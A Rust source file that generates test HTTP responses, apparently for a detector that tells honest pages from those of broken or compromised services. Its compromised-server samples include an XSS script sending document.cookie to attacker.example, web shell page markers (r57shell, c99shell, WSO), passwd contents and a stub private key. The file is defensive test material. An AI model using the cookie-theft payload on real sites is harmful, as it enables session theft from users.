//! Answers to compare: honest ones, what a service shows that has broken, and what one shows that was broken into.

use bytes::Bytes;
use mutate::Random;

use crate::request::Header;
use crate::response::Response;

/// Media type and body.
const HONEST: &[(&str, &str)] = &[
    (
        "application/json",
        "{\"id\":7,\"name\":\"Ann O'Neil\",\"tags\":[\"a\",\"b\"],\"paid\":true,\"note\":null}",
    ),
    ("application/json; charset=utf-8", "[{\"sku\":\"A-1\",\"price\":12.5},{\"sku\":\"B-2\",\"price\":3}]"),
    (
        "text/html; charset=utf-8",
        "<!doctype html><html><head><title>Shoes</title></head><body><h1>Blue shoes</h1><p>Select a size and order by noon.</p></body></html>",
    ),
    (
        "text/html",
        "<html><body><p>How to select from a table, and where the index of a book stands.</p></body></html>",
    ),
    ("text/plain", "ok\n"),
    ("text/xml", "<?xml version=\"1.0\"?><order id=\"7\"><item sku=\"A-1\">2</item></order>"),
    ("image/png", "\u{89}PNG\r\n\u{1a}\n"),
    ("text/html", ""),
];

/// What a service shows that has broken.
const BROKEN: &[&str] = &[
    "Traceback (most recent call last):\n  File \"/srv/app/views.py\", line 41, in show\n    return orders[key]\nKeyError: 'x'",
    "java.lang.NullPointerException: order\n\tat com.shop.Orders.find(Orders.java:77)\n\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:193)",
    "Exception in thread \"main\" java.sql.SQLException: ORA-00933: SQL command not properly ended",
    "<b>Warning</b>:  mysqli_query(): (42000/1064): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1 in <b>/var/www/html/shop.php</b> on line <b>12</b>",
    "PG::SyntaxError: ERROR:  syntax error at or near \"'\" LINE 1: SELECT * FROM orders WHERE id = '",
    "org.postgresql.util.PSQLException: ERROR: unterminated quoted string at or near \"'\"",
    "Microsoft OLE DB Provider for SQL Server error '80040e14' Unclosed quotation mark after the character string ''.",
    "System.Data.SqlClient.SqlException: Incorrect syntax near 'x'.",
    "SQLite3::SQLException: near \"'\": syntax error",
    "sqlite3.OperationalError: unrecognized token: \"'\"",
    "DB2 SQL error: SQLCODE: -104, SQLSTATE: 42601",
    "[Microsoft][ODBC Microsoft Access Driver] Syntax error (missing operator) in query expression 'id='.",
    "Sybase message: Incorrect syntax near the keyword 'from'.",
    "Fatal error: Uncaught Error: Call to undefined function show() in /var/www/html/index.php:3",
    "<?php $password = 'secret'; mysql_connect('localhost', 'root', $password); ?>",
    "Parse error: syntax error, unexpected end of file in /var/www/html/a.php on line 9",
    "Server Error in '/' Application. Runtime Error: Compilation Error. Stack Trace: [HttpException (0x80004005)]",
    "ActiveRecord::RecordNotFound (Couldn't find Order with 'id'=9):\napp/controllers/orders_controller.rb:12:in `show'",
    "TypeError: Cannot read properties of undefined (reading 'id')\n    at /srv/app/node_modules/express/lib/router/layer.js:95:5",
    "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.main()\n\t/srv/app/main.go:9 +0x1d",
    "<html><head><title>Index of /backup</title></head><body><h1>Index of /backup</h1><a href=\"../\">Parent Directory</a></body></html>",
    "<pre>Directory Listing For /files/ - Up To /</pre>",
    "<title>localhost - /uploads/</title><pre><A HREF=\"/\">[To Parent Directory]</A>",
    "<H1>Not Found</H1> The requested URL was not found on this server. Apache/2.4.41 (Ubuntu) Server at 10.0.0.3 Port 80",
    "ADODB.Command error '800a0bb9' Application uses a value of the wrong type, Active Server Pages error 'ASP 0113'",
    "<%@ Page Language=\"C#\" %><% Response.Write(Request[\"x\"]); %>",
];

/// What one shows that was broken into, and what should not have left it.
const TAKEN: &[&str] = &[
    "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
    "uid=33(www-data) gid=33(www-data) groups=33(www-data)",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----",
    "<title>r57shell</title><h1>c99shell v. 1.0</h1><form>Execute command: <input name=cmd></form>",
    "<title>WSO 2.5</title><span>Uname:</span> Linux <span>Php:</span> 7.4 Safe mode: OFF",
    "#!/bin/bash\nexport PATH=/usr/bin\nrm -rf /tmp/x",
    "#!/usr/bin/perl -w\nuse strict;",
    "<script>document.location='http://attacker.example/?c='+document.cookie</script>",
    "[boot loader]\ntimeout=30\n[operating systems]",
    "drwxr-xr-x  2 root root 4096 Nov 22 10:00 .\n-rw-r--r--  1 root root  220 Nov 22 10:00 .bashrc",
    " Volume in drive C has no label.\r\n Directory of C:\\inetpub",
];

const STATUSES: &[u16] = &[200, 200, 200, 201, 301, 400, 403, 404, 500, 502, 503];

/// At least `count` answers, of each kind as it is and mixed and mutated.
pub fn all(count: usize, random: &mut Random) -> Vec<(Response, Bytes)> {
    let mut all: Vec<_> =
        HONEST.iter().map(|(kind, body)| answer(200, kind, body.as_bytes().to_vec())).collect();
    let shown: Vec<&str> = BROKEN.iter().chain(TAKEN).copied().collect();
    all.extend(shown.iter().map(|body| answer(500, "text/html", body.as_bytes().to_vec())));
    all.extend(shown.iter().map(|body| answer(200, "text/plain", body.as_bytes().to_vec())));
    while all.len() < count {
        let status = STATUSES[random.below(STATUSES.len())];
        let (kind, honest) = HONEST[random.below(HONEST.len())];
        let text = shown[random.below(shown.len())];
        let mut body = match random.below(4) {
            // Within an honest page.
            0 => {
                let mut page = honest.as_bytes().to_vec();
                let at = random.below(page.len() + 1);
                page.splice(at..at, text.bytes());
                page
            }
            // As a value of JSON.
            1 => format!("{{\"error\":{}}}", serde_json::Value::from(text)).into_bytes(),
            // Two of them.
            2 => format!("{text}\n{}", shown[random.below(shown.len())]).into_bytes(),
            _ => text.as_bytes().to_vec(),
        };
        if random.below(3) > 0 {
            (0..=random.below(5)).for_each(|_| random.mutate(&mut body));
        }
        if random.below(20) == 0 {
            body = body.repeat(40);
        }
        let kind = if random.below(3) == 0 { kind } else { "text/html; charset=utf-8" };
        all.push(answer(status, kind, body));
    }
    all
}

fn answer(status: u16, kind: &str, body: Vec<u8>) -> (Response, Bytes) {
    let mut headers =
        vec![Header::new("Content-Length", body.len().to_string()), Header::new("Server", "shop/1.0")];
    if !kind.is_empty() {
        headers.push(Header::new("Content-Type", kind.to_owned()));
    }
    (Response { status, protocol: Bytes::from_static(b"HTTP/1.1"), headers }, body.into())
}
